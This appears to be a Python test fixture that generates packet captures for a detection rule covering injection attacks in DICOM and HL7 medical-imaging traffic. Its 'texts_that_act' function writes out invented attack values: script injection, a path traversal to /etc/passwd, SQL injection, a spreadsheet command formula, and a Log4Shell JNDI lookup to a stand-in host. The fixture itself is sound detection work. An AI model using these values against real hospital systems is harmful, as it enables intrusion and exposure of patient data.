"""Captures for the rule about active text: machines, names, patients and attacks are invented."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from pydicom.dataset import Dataset

from tests.detections.makers.dicom_attacks import INTRUDER, asked, find, keys, talk
from tests.support import dicom_traffic as d
from tests.support import packets as p
from tests.support.packets import CLIENT, SERVER, Packet
from tests.traces.make import CT, EAI, PACS, WORKSTATION, Host, Turns

RIS = Host("10.1.0.41", "02:00:00:01:00:41")


def sends(image: Dataset, calling: str = "CT_1") -> Turns:
    """One image and its answer."""
    turns: Turns = [(CLIENT, d.store(d.data_set(image))), (SERVER, d.stored())]
    return asked(d.CT, turns, calling, syntax=d.EXPLICIT)


def image(**values: str) -> Dataset:
    content = d.image()
    for name, value in values.items():
        setattr(content, name, value)
    return content


def hl7(number: int, pid: str, sender: str = "RIS", more: str = "") -> Turns:
    """A registration and its acknowledgement."""
    time = f"2026111709{number:02}00"
    said = f"MSH|^~\\&|{sender}|H|PACS|H|{time}||ADT^A04|M{number}|P|2.5\rPID|{pid}\r{more}"
    answer = f"MSH|^~\\&|PACS|H|RIS|H|{time}||ACK^A04|A{number}|P|2.5\rMSA|AA|M{number}\r"
    return [(CLIENT, block(said)), (SERVER, block(answer))]


def block(message: str) -> bytes:
    return b"\x0b" + message.encode() + b"\x1c\r"


def wire(*talks: list[Packet]) -> bytes:
    return p.pcap(p.merged(*talks))


def texts_that_act() -> bytes:
    """Two images and a query of an intruder, a scanner with a formula, and a registration system."""
    climbing = image(PatientName="ATTACK^<script>alert(4242)</script>", PatientID="../../../etc/passwd4242")
    query = keys(PatientID="X4242' OR '1'='1", PatientName="X4242' UNION SELECT NULL--")
    return wire(
        talk(sends(climbing, "<img src=4242>"), 0, INTRUDER, PACS),
        talk(sends(climbing, "<img src=4242>"), 10, INTRUDER, PACS),
        talk(asked(d.STUDY_FIND, find(query), "ANY"), 20, INTRUDER, PACS),
        talk(sends(image(StationName="=cmd|'/C 4242'!A")), 30, CT, PACS),
        talk(hl7(1, "1||PAT1^^^H||${jndi:ldap://x4242.example/a}^A"), 40, RIS, EAI, 2575),
    )


def texts_that_only_look_so() -> bytes:
    """Apostrophes, hyphens, signs, component groups, values side by side, escapes, web addresses, a document."""
    named = image(PatientName="O'Brien-d'Or^Jean=YAMADA^TARO", PatientID="A=B/2026;1")
    room = image(PatientName="=YAMADA^TARO", StationName="<CT 3>", ManufacturerModelName="Ingenia 1.5T/3.0T (R5)")
    named_query = keys(PatientName="L'H*", AccessionNumber="2026/11-17")
    many: Any = ["1.2.3.4.1", "1.2.3.4.2"]
    named_query.StudyInstanceUID = many
    described = keys(StudyDescription="< 3 cm or > 1=1", PatientName="UNION^SELENA")
    pid = "1||7^^^H~8||O'NEIL\\T\\SONS^D'OR||||||12/3 rue de l'Église||+33 (0)1"
    found = "OBX|1|ED|PDF||<script>x</script>^../../x\rOBX|2|RP|||http://pacs.example/../a?b=' OR 1=1\r"
    return wire(
        talk(sends(named), 0, CT, PACS),
        talk(sends(room), 10, CT, PACS),
        talk(asked(d.STUDY_FIND, find(named_query) + find(described, 2), "WS_1"), 20, WORKSTATION, PACS),
        talk(hl7(1, pid, more=found), 40, RIS, EAI, 2575),
        talk(hl7(2, "1||9||\\H\\DOE\\N\\^JANE=B", "R\\T\\D"), 50, RIS, EAI, 2575),
    )


MAKERS: dict[str, Callable[[], bytes]] = {
    "RV-DICOM-032/fires.pcap": texts_that_act,
    "RV-DICOM-032/silent.pcap": texts_that_only_look_so,
}
